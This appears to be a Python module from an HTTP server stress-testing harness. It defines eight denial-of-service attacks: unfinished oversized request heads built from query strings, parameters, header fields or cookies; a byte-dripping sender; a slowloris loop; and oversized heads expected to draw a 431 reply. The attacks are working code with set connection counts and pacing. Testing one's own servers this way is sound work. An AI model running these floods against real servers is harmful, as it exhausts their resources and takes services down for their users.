"""Heads of HTTP/1.1 that do not end, or are as large as a head may be."""
import string

from attacks.attack import attack

DIGITS = string.digits + string.ascii_letters + "-._~!$'*:@"  # so many that no name needs more than two
LINE = 16 * 1024  # the longest request line
HEAD = 32 * 1024  # the largest head
START = b"GET /good/x HTTP/1.1\r\nHost: chaos\r\n"
BYTES_A_SECOND = 2


def names():
    """Distinct ones, the shortest first."""
    found = list(DIGITS)
    for each in found:
        yield each
        if len(each) < 3:
            found += [each + digit for digit in DIGITS]


def line(start, between, size):
    """The beginning of a request line, so many bytes of it."""
    made, length = [start], len(start)
    for name in names():
        if length + len(name) + 1 > size:
            return between.join(made)[:size].encode()
        made.append(name)
        length += len(name) + 1


def header_lines(count, size):
    """A head of so many lines and bytes that lacks the empty line at its end."""
    each = (size - len(START)) // count
    return START + b"".join(b"x-%02d: " % number + b"v" * (each - 8) + b"\r\n" for number in range(count))


QUERY = line("GET /good/x?first", "&", LINE - 64)
PARAMETERS = line("GET /good/x;first", ";", LINE - 64)
FIELDS = header_lines(98, HEAD - 256)
TINY = START + b"".join(b"%c%c:\r\n" % (a, b) for a in b"abcdefg" for b in b"abcdefghijklmn")
COOKIES = START + b"Cookie: " + b"; ".join(b"%d=" % number for number in range(4000))[:HEAD - 512]


@attack(connections=2600, pace=650)
async def heads_query(link):
    """unfinished heads of 16 KB, GET /?a&b&c… of distinct names"""
    await link.connect()
    await link.send(QUERY)
    await link.until_closed()


@attack(connections=400, pace=100)
async def heads_parameters(link):
    """unfinished heads of 16 KB, GET /;a;b;c… of distinct names"""
    await link.connect()
    await link.send(PARAMETERS)
    await link.until_closed()


@attack(connections=300, pace=50)
async def heads_fields(link):
    """unfinished heads of 32 KB and 98 header lines"""
    await link.connect()
    await link.send(FIELDS)
    await link.until_closed()


@attack(connections=200, pace=50)
async def heads_tiny(link):
    """unfinished heads of 98 header lines without values"""
    await link.connect()
    await link.send(TINY)
    await link.until_closed()


@attack(connections=100, pace=25)
async def heads_cookies(link):
    """unfinished heads of 32 KB of distinct cookies"""
    await link.connect()
    await link.send(COOKIES)
    await link.until_closed()


@attack(connections=100, pace=20)
async def heads_dribbled(link):
    """heads that come two bytes a second, one by one"""
    await link.connect()
    await link.send_slowly(FIELDS, 1, 1 / BYTES_A_SECOND)


@attack(connections=100, pace=20)
async def heads_loris(link):
    """heads that get another line every two seconds and never an end"""
    await link.connect()
    await link.send(START)
    while True:
        await link.send(b"x-more: 1\r\n")
        await link.rest(2)


@attack(connections=20, pace=10)
async def heads_huge(link):
    """heads past 32 KB, to be answered 431"""
    await link.connect()
    await link.send(header_lines(98, 2 * HEAD))
    await link.until_closed()
